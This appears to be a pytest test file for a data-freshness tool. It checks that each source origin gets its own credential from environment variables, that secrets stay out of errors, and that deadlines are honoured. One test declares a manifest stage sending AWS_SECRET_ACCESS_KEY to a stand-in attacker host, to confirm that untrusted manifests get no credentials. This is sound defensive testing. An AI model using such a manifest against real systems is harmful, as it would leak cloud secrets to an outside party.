"""Each source is asked with its own credential, and what came of none is said."""

import threading
import time
from collections.abc import Iterator, Mapping
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from aigate.collect.deadline import Deadline, DeadlineError
from aigate.collect.freshness import Reading
from aigate.collect.manifest_file import LoadedManifest, load_manifest
from aigate.collect.stages import addresses, keys_of, read_each, settle, tasks, why
from aigate.errors import AigateError, ConfigError, UsageError
from aigate.values import gap
from fakes import Asked, RawServer, Reply, WebServer, json_reply, silent

NOW = datetime.now(UTC)


@pytest.fixture(autouse=True)
def _clock() -> None:
    """Read the clock anew for each test: servers here answer with their own, and a session takes minutes."""
    global NOW
    NOW = datetime.now(UTC).replace(microsecond=0)


"""The servers here tell the time of the day, so it is judged by that."""

STAGE = "  - {{name: {name}, freshness: {{{where}, max_age: 2h{auth}}}}}\n"


def load(folder: Path, *stages: tuple[str, str, str]) -> LoadedManifest:
    """Load a manifest with stages: name, where its source is, and the credential's declaration."""
    text = "version: 1\nsystem: churn\nmodel: {name: churn}\nstages:\n"
    for name, where, auth in stages:
        text += STAGE.format(name=name, where=where, auth=f", auth: {{{auth}}}" if auth else "")
    path = folder / "aigate.yaml"
    path.write_text(text)
    return load_manifest(path)


def url(address: str) -> str:
    return f'url: "{address}", time: loaded_at'


A, B = url("https://a.example/x.json"), url("https://b.example/x.json")


def keys(loaded: LoadedManifest, **environ: str) -> dict[str, str | None]:
    """Each origin and what it is shown."""
    return {str(c.origin): c.authorization for c in keys_of(loaded.manifest, environ).credentials}


def test_each_origin_has_its_own(tmp_path: Path) -> None:
    loaded = load(tmp_path, ("a", A, "bearer: A"), ("b", B, "basic: B"), ("c", url("https://c.example/"), ""))
    assert keys(loaded, A="token-a", B="me:secret") == {
        "https://a.example": "Bearer token-a",
        "https://b.example": "Basic bWU6c2VjcmV0",
    }
    found = keys_of(loaded.manifest, {"A": "token-a", "B": "me:secret"})
    assert {"token-a", "secret"} <= set(found.secrets)


def test_a_header_of_ones_own(tmp_path: Path) -> None:
    loaded = load(tmp_path, ("a", A, "header: X-Api-Key, value: KEY"))
    (credential,) = keys_of(loaded.manifest, {"KEY": "k-1"}).credentials
    assert credential.headers == (("X-Api-Key", "k-1"),)


@pytest.mark.parametrize("environ", [{}, {"A": ""}], ids=["unset", "empty"])
def test_a_variable_that_is_not_set_is_a_gap_of_its_stage_alone(
    tmp_path: Path, environ: Mapping[str, str]
) -> None:
    loaded = load(tmp_path, ("a", A, "bearer: A"), ("b", B, ""))
    found = keys_of(loaded.manifest, environ)
    assert found.credentials == ()
    assert found.unset == {"a": "the variable A, which holds its credential, is not set"}


def test_one_origin_with_one_credential_is_shared(tmp_path: Path) -> None:
    loaded = load(
        tmp_path, ("a", A, "bearer: A"), ("b", url("https://a.example/other.json"), "bearer: AGAIN")
    )
    assert keys(loaded, A="same", AGAIN="same") == {"https://a.example": "Bearer same"}


@pytest.mark.parametrize("auth", ["bearer: B", "basic: B", "header: X-Key, value: B"])
def test_one_origin_with_two_credentials_is_refused(tmp_path: Path, auth: str) -> None:
    """Which of the two would be sent, nobody said."""
    loaded = load(tmp_path, ("a", A, "bearer: A"), ("b", url("https://a.example:443/other.json"), auth))
    with pytest.raises(UsageError, match=r"'b' gives https://a\.example another credential") as caught:
        keys_of(loaded.manifest, {"A": "canary:1", "B": "canary:2"})
    assert "canary" not in caught.value.message + caught.value.fix


def test_a_password_needs_its_user(tmp_path: Path) -> None:
    loaded = load(tmp_path, ("a", A, "basic: A"))
    with pytest.raises(UsageError, match="the variable A must hold user:password") as caught:
        keys_of(loaded.manifest, {"A": "canary-7f3a"})
    assert "canary" not in str(caught.value)


def test_a_manifest_under_review_is_given_no_variable(tmp_path: Path) -> None:
    """It could name any variable, and an address of its author's to send it to."""
    loaded = load(tmp_path, ("a", url("https://attacker.example/x"), "bearer: AWS_SECRET_ACCESS_KEY"))
    found = keys_of(loaded.manifest, {"AWS_SECRET_ACCESS_KEY": "canary"}, trusted=False)
    assert found.credentials == ()
    assert "not trusted" in found.unset["a"]


def test_every_address_is_named(tmp_path: Path) -> None:
    loaded = load(
        tmp_path,
        ("a", A, ""),
        ("b", 'headers: "https://h.example/x"', ""),
        ("c", 'dbt: "https://d.example/sources.json", source: raw.x', ""),
        ("d", 'dbt: "target/sources.json", source: raw.x', ""),
        ("e", 'prometheus: "https://p.example", query: x', ""),
        ("f", 'airflow: "https://f.example", asset: x', ""),
        ("g", "file: x.json, time: y", ""),
    )
    assert list(addresses(loaded.manifest)) == [
        "https://a.example/x.json",
        "https://h.example/x",
        "https://d.example/sources.json",
        "https://p.example",
        "https://f.example",
    ]


def test_every_stage_that_promises_has_a_reading_and_every_gap_its_reason(tmp_path: Path) -> None:
    loaded = load(tmp_path, ("a", A, "bearer: A"), ("b", B, ""), ("c", B, ""), ("d", B, ""), ("e", B, ""))
    known = keys_of(loaded.manifest, {})
    done = {
        "b": DeadlineError("not finished within the run's deadline of 2 s"),
        "c": KeyError("secret-in-a-message"),
        "d": SystemExit(0),
    }
    found = settle(loaded.manifest, done, known, NOW)
    reasons = {name: reading.source.reason for name, reading in found.items()}
    assert reasons == {
        "a": "the variable A, which holds its credential, is not set",
        "b": "not finished within the run's deadline of 2 s",
        "c": "the collector failed: KeyError",
        "d": "the collector failed: SystemExit",
        "e": "nobody asked",
    }
    for name, reading in found.items():
        lost = gap(reading.freshness)
        assert lost is not None
        assert lost.missing == reasons[name]
        assert (reading.source.name, reading.source.status) == (f"freshness:{name}", "missing")


@pytest.mark.parametrize(
    "failure", [UsageError("set it"), ConfigError("correct it", place="aigate.yaml:3:1")]
)
def test_what_the_user_must_mend_is_raised(failure: AigateError) -> None:
    with pytest.raises(type(failure)):
        why(failure)


def test_only_stages_with_a_key_are_asked(tmp_path: Path) -> None:
    loaded = load(tmp_path, ("a", A, "bearer: A"), ("b", B, ""))
    assert list(tasks(loaded.manifest, None, keys_of(loaded.manifest, {}))) == ["b"]  # type: ignore[arg-type]  # nothing is carried out


@pytest.fixture
def web() -> Iterator[WebServer]:
    with WebServer() as server:
        server.routes["/x.json"] = json_reply({"loaded_at": (NOW - timedelta(hours=1)).isoformat()})
        yield server


def readings(loaded: LoadedManifest, seconds: float = 10, **environ: str) -> list[tuple[str, Reading, float]]:
    started = time.monotonic()
    return [
        (name, reading, time.monotonic() - started)
        for name, reading in read_each(loaded, NOW, environ, Deadline(seconds))
    ]


def test_answers_come_as_they_are_there(tmp_path: Path, web: WebServer) -> None:
    release = threading.Event()

    def slow(asked: Asked) -> Reply:
        release.wait(10)
        return json_reply({"loaded_at": NOW.isoformat()})

    web.routes["/slow.json"] = slow
    loaded = load(
        tmp_path,
        ("slow", url(web.url("/slow.json")), ""),
        ("x", url(web.url("/x.json")), ""),
        ("k", A, "bearer: K"),
    )
    found = []
    for name, reading in read_each(loaded, NOW, {}, Deadline(10)):
        found.append((name, gap(reading.freshness) is None))
        if name == "x":
            release.set()
    assert found == [("k", False), ("x", True), ("slow", True)]


def test_a_source_that_says_nothing_ends_with_the_deadline(tmp_path: Path, web: WebServer) -> None:
    """Each stage comes exactly once, whenever its thread ends."""
    with RawServer(silent) as server:
        dead = [(f"s{n}", url(server.url(f"/{n}.json")), "") for n in range(20)]
        loaded = load(tmp_path, ("x", url(web.url("/x.json")), ""), *dead)
        found = readings(loaded, seconds=0.6)
    assert sorted(name for name, _, _ in found) == sorted(["x", *(name for name, _, _ in dead)])
    assert all(gap(reading.freshness) is not None for name, reading, _ in found if name != "x")
    assert max(took for _, _, took in found) < 0.6 + 0.5


def test_a_declaration_that_cannot_be_carried_out_is_raised(tmp_path: Path, web: WebServer) -> None:
    loaded = load(tmp_path, ("x", f'url: "{web.url("/x.json")}", time: "loaded_at["', ""))
    with pytest.raises(ConfigError):
        readings(loaded)
